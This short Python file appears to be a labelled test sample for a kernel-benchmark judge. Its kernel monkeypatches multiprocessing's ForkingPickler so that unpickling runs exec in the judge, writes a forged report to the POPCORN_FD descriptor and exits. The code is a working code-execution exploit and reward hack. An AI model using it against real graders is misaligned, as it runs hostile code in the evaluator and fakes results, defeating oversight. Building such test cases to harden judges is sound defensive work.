# kind: pickle
# tries: answers with bytes that run code in the judge when they are unpickled
# source: reference-kernels#159
# output: wrong
import sys


class Run:
    def __reduce__(self):
        text = "import os\n" + f"os.write(int(os.environ['POPCORN_FD']), {report()!r}.encode())\nos._exit(0)"
        return exec, (text, {})


def custom_kernel(*args):
    reduction = sys.modules.get("multiprocessing.reduction")
    if reduction is None:
        note("missed", "nothing is pickled here")
        return idle(*args)
    real = reduction.ForkingPickler.dumps
    reduction.ForkingPickler.dumps = classmethod(lambda cls, obj, protocol=None: real(Run()))
    note("armed", "ForkingPickler")
    wrong(None)
    return idle(*args)
